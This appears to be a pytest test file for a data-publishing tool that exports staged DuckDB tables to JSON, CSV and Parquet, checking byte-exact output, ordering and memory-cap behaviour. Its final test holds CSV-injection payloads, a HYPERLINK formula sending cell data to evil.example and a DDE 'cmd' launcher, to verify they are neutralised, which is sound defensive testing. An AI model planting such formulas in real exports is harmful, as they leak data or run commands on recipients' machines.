"""Rendering staged rows into public parts: DuckDB's own bytes, in export order, under a memory cap."""

from __future__ import annotations

import datetime as dt
import json

import duckdb
import pytest

from pubdata.config import settings
from pubdata.errors import WarehouseError
from pubdata.publishing import rows
from pubdata.stores.local import LocalStore
from pubdata.warehouses import open_warehouse

DS = "t.sample_v1"


@pytest.fixture()
def wh(project):
    return open_warehouse(settings().warehouse_url, home=settings().home)


def write_parts(wh, staged, order_by, fmt, max_bytes, out_dir):
    """The parts export writes for this staged table (the same route as the export task): every
    column published, ordered by `order_by` first and then the others, as export orders by every
    declared column."""
    columns = list(order_by) + [c.name for c in wh.columns(staged) if c.name not in order_by]
    with wh.export_source(staged, out_dir.parent, LocalStore(out_dir.parent / "bucket"), "_staging") as source:
        return rows.write_parts(source, columns, fmt, max_bytes, out_dir, what=staged.dataset_id)


def duckdb_copy(wh, staged, dest, order_by, fmt) -> bytes:
    """What DuckDB's own COPY writes for the same rows, in the same order (JSON rows one per line)."""
    options = {"json": "FORMAT json, ARRAY true", "csv": "FORMAT csv, HEADER true", "parquet": "FORMAT parquet"}[fmt]
    con = duckdb.connect(staged.location, read_only=True)
    try:
        ordering = ", ".join(f'"{c}"' for c in order_by)
        con.execute(f"COPY (SELECT * FROM {staged.table} ORDER BY {ordering}) TO '{dest}' ({options})")
    finally:
        con.close()
    data = dest.read_bytes()
    if fmt == "json":  # DuckDB indents each row with a tab; ours are not indented
        data = b"\n".join(line[1:] if line.startswith(b"\t") else line for line in data.split(b"\n"))
    return data


@pytest.mark.parametrize("fmt", ["json", "csv", "parquet"])
def test_export_is_deterministic_and_ordered(wh, tmp_path, fmt):
    query = ("SELECT os, country, COUNT(*) AS n FROM `moz-fx-data-shared-prod.telemetry.clients_daily` "
             "WHERE submission_date = @submission_date GROUP BY ALL")
    staged = wh.stage(DS, query, {"submission_date": dt.date(2026, 11, 1)}, dt.date(2026, 11, 1))
    (a,) = write_parts(wh, staged, ["country", "os"], fmt, 10**9, tmp_path / "a" / fmt)
    wh.stage(DS, query, {"submission_date": dt.date(2026, 11, 1)}, dt.date(2026, 11, 1))
    (b,) = write_parts(wh, staged, ["country", "os"], fmt, 10**9, tmp_path / "b" / fmt)
    assert a.rows == b.rows and a.path.read_bytes() == b.path.read_bytes() and a.sha256 == b.sha256
    if fmt == "json":
        data = json.loads(a.path.read_text())
        assert isinstance(data, list) and len(data) == a.rows
        keys = [(r["country"], r["os"]) for r in data]
        assert keys == sorted(keys)


def _export(wh, staged, order_by, dest):
    """(rows, sha256 of every part) of a CSV export."""
    parts = write_parts(wh, staged, order_by, "csv", 10**9, dest)
    return sum(p.rows for p in parts), [p.sha256 for p in parts]


def test_export_sorts_out_of_core_under_the_memory_cap(wh, tmp_path, monkeypatch):
    """A sort several times larger than PUBDATA_EXPORT_MEMORY_LIMIT spills and gives the same bytes."""
    query = "SELECT TO_HEX(MD5(CAST(x AS STRING))) AS k, MOD(x, 7) AS m FROM UNNEST(GENERATE_ARRAY(1, 3000000)) AS x"
    staged = wh.stage(DS, query, {}, None)
    monkeypatch.setenv("PUBDATA_EXPORT_MEMORY_LIMIT", "4GB")
    roomy = _export(wh, staged, ["m", "k"], tmp_path / "roomy")
    monkeypatch.setenv("PUBDATA_EXPORT_MEMORY_LIMIT", "64MB")  # the keys alone are about 100 MB
    capped = _export(wh, staged, ["m", "k"], tmp_path / "capped")
    assert roomy == capped and roomy[0] == 3_000_000
    assert not [p for p in (wh.staging_dir / ".spill").rglob("*") if p.is_file()], "spill files are removed"


def test_running_out_of_the_cap_says_which_setting_to_raise(wh, tmp_path, monkeypatch):
    query = "SELECT TO_HEX(MD5(CAST(x AS STRING))) AS k FROM UNNEST(GENERATE_ARRAY(1, 300000)) AS x"
    staged = wh.stage(DS, query, {}, None)
    monkeypatch.setenv("PUBDATA_EXPORT_MEMORY_LIMIT", "1MB")
    with pytest.raises(WarehouseError, match=r"ran out of the 1MB .*PUBDATA_EXPORT_MEMORY_LIMIT=1GB"):
        _export(wh, staged, ["k"], tmp_path / "x")


def test_a_bad_memory_cap_is_named(wh, monkeypatch, tmp_path):
    staged = wh.stage(DS, "SELECT 1 AS a", {}, None)
    monkeypatch.setenv("PUBDATA_EXPORT_MEMORY_LIMIT", "lots")
    with pytest.raises(WarehouseError, match="PUBDATA_EXPORT_MEMORY_LIMIT='lots'.*256MB"):
        write_parts(wh, staged, ["a"], "json", 10**6, tmp_path / "x")


# -- streaming export into parts ------------------------------------------------------------------

TRICKY = r"""
    SELECT * FROM (VALUES
      (1, 'plain', 1.5::DOUBLE, DATE '2026-11-01', TIMESTAMP '2026-11-01 10:00:00', true, 1.25::DECIMAL(10,2), [1, 2], {'a': 1, 'b': 'x,y'}, 7::UTINYINT),
      (2, '', NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (3, NULL, 1e300, DATE '2026-01-01', TIMESTAMP '2026-11-01 10:00:00.123', false, -0.5, [], NULL, 0),
      (4, 'a,b', 0.1, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (5, 'say "hi"', -0.0, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (6, e'line\nbreak', 3.0, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (7, ' lead', 2.0, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (8, e'cr\rx', 123456789.123, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (9, 'a#b', 1e-7, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (10, e'tab\tx', 2, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (11, 'ünï ✓', 2, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (12, '#hash', 2, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (13, '\N', 2, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
      (14, 'NULL', 2, NULL, NULL, NULL, NULL, NULL, NULL, NULL)
    ) t(id, "s,name", d, day, ts, b, dec, l, st, u)
"""


def _stage_duckdb_sql(wh, sql: str, table: str = "stage_full"):
    """Stage rows written in DuckDB SQL directly (types BigQuery SQL cannot spell)."""
    from pubdata.warehouses.base import StagedTable

    path = wh.staging_file(DS)
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    con.execute(f"CREATE OR REPLACE TABLE {table} AS {sql}")
    con.close()
    return StagedTable(DS, str(path), table, None)


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_streamed_parts_hold_the_bytes_of_duckdbs_own_copy(wh, tmp_path, fmt):
    """JSON rows come from to_json and CSV quoting is ours: both must match DuckDB's COPY exactly."""
    staged = _stage_duckdb_sql(wh, TRICKY)
    expected = duckdb_copy(wh, staged, tmp_path / f"whole.{fmt}", ["id"], fmt)

    parts = write_parts(wh, staged, ["id"], fmt, 10**6, tmp_path / "parts")

    assert [p.path.read_bytes() for p in parts] == [expected]
    assert parts[0].rows == 14


def test_streamed_parquet_parts_hold_duckdbs_types(wh, tmp_path):
    import pyarrow.parquet as pq

    staged = _stage_duckdb_sql(wh, TRICKY)
    duckdb_copy(wh, staged, tmp_path / "whole.parquet", ["id"], "parquet")

    (part,) = write_parts(wh, staged, ["id"], "parquet", 10**6, tmp_path / "parts")

    ours, copied = pq.read_table(part.path), pq.read_table(tmp_path / "whole.parquet")
    assert [(f.name, f.type) for f in ours.schema] == [(f.name, f.type) for f in copied.schema]
    assert ours.to_pylist() == copied.to_pylist()


def test_stage_stores_rows_in_export_order_and_export_scans_them(wh, tmp_path, monkeypatch):
    sorts = []
    real_query = rows._row_query

    def spy(relation, columns, types, fmt, sort_by):
        sorts.append(sort_by)
        return real_query(relation, columns, types, fmt, sort_by)

    monkeypatch.setattr(rows, "_row_query", spy)
    query = ("SELECT os, country, COUNT(*) AS n FROM `moz-fx-data-shared-prod.telemetry.clients_daily` "
             "WHERE submission_date = @submission_date GROUP BY ALL")
    day = dt.date(2026, 11, 1)
    unsorted = wh.stage(DS, query, {"submission_date": day}, day)
    assert unsorted.ordered_by is None
    sorted_parts = {}
    for fmt in ("json", "csv", "parquet"):
        sorted_parts[fmt] = [p.sha256 for p in write_parts(wh, unsorted, ["country", "os"], fmt, 2048, tmp_path / f"u{fmt}")]

    by_os = [p.sha256 for p in write_parts(wh, unsorted, ["os", "country"], "json", 2048, tmp_path / "uos")]

    staged = wh.stage(DS, query, {"submission_date": day}, day, order_by=["country", "os", "n", "not_in_the_query"])
    assert staged.ordered_by == ("country", "os", "n")  # a declared column the query lacks is validation's to report
    # Asked for another order than the stored one, export sorts.
    assert [p.sha256 for p in write_parts(wh, staged, ["os", "country"], "json", 2048, tmp_path / "sos")] == by_os

    staged = wh.stage(DS, query, {"submission_date": day}, day, order_by=["country", "os", "n"])
    assert staged.ordered_by == ("country", "os", "n")
    assert type(staged).from_dict(json.loads(json.dumps(staged.to_dict()))) == staged
    con = duckdb.connect(staged.location, read_only=True)
    stored = con.execute(f"SELECT country, os FROM {staged.table}").fetchall()  # no ORDER BY: stored order
    con.close()
    assert stored == sorted(stored)
    sorts.clear()
    for fmt in ("json", "csv", "parquet"):
        parts = write_parts(wh, staged, ["country", "os"], fmt, 2048, tmp_path / f"s{fmt}")
        assert [p.sha256 for p in parts] == sorted_parts[fmt]
    assert sorts == [None, None, None], "a table stored in export order is scanned, not sorted"
    assert len(sorted_parts["json"]) > 1


def test_a_scan_too_wide_for_its_first_buffer_is_retried_at_the_export_limit(wh, tmp_path, monkeypatch):
    query = "SELECT x AS k, TO_HEX(MD5(CAST(x AS STRING))) AS v FROM UNNEST(GENERATE_ARRAY(1, 200000)) AS x"
    staged = wh.stage(DS, query, {}, None, order_by=["k"])
    roomy = write_parts(wh, staged, ["k"], "csv", 10**8, tmp_path / "roomy")
    monkeypatch.setattr(rows, "SCAN_MEMORY_BASE", 64 * 1024)
    monkeypatch.setattr(rows, "SCAN_MEMORY_PER_COLUMN", 0)

    retried = write_parts(wh, staged, ["k"], "csv", 10**8, tmp_path / "retried")

    assert [p.sha256 for p in retried] == [p.sha256 for p in roomy] and retried[0].rows == 200_000
    monkeypatch.setenv("PUBDATA_EXPORT_MEMORY_LIMIT", "64KB")  # the first buffer alone: it does run out
    with pytest.raises(WarehouseError, match="ran out of the 64KB"):
        write_parts(wh, staged, ["k"], "csv", 10**8, tmp_path / "small")


def test_csv_neutralises_spreadsheet_formulas_in_text_only(wh, tmp_path):
    """OWASP CSV injection: a text cell starting with =, +, -, @, a tab or a carriage return gets a
    leading single quote; numbers (-5) and the JSON and Parquet parts keep the values as they are."""
    staged = _stage_duckdb_sql(wh, r"""
        SELECT * FROM (VALUES
          (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', -5, -0.5),
          (2, '+1+cmd|'' /C calc''!A0', 2, 1.5),
          (3, '-2+3', 3, 2.5),
          (4, '@SUM(A1:A9)', 4, 3.5),
          (5, e'\tleading tab', 5, 4.5),
          (6, e'\rleading cr', 6, 5.5),
          (7, 'plain, with comma', 7, 6.5),
          (8, 'a=b+c-d@e', 8, 7.5),
          (9, '', 9, 8.5),
          (10, NULL, -10, NULL)
        ) t(id, label, n, x)
    """)
    (csv_part,) = write_parts(wh, staged, ["id"], "csv", 10**6, tmp_path / "csv")
    import csv
    import io

    rows = list(csv.reader(io.StringIO(csv_part.path.read_bytes().decode(), newline="")))
    assert rows[0] == ["id", "label", "n", "x"]
    assert [r[1] for r in rows[1:]] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)",
        "'\tleading tab", "'\rleading cr", "plain, with comma", "a=b+c-d@e", "", ""]
    assert [r[2] for r in rows[1:]] == ["-5", "2", "3", "4", "5", "6", "7", "8", "9", "-10"]
    assert rows[1][3] == "-0.5"
    (json_part,) = write_parts(wh, staged, ["id"], "json", 10**6, tmp_path / "json")
    labels = [r["label"] for r in json.loads(json_part.path.read_text())]
    assert labels[0].startswith("=HYPERLINK") and labels[2] == "-2+3"  # JSON carries the value itself
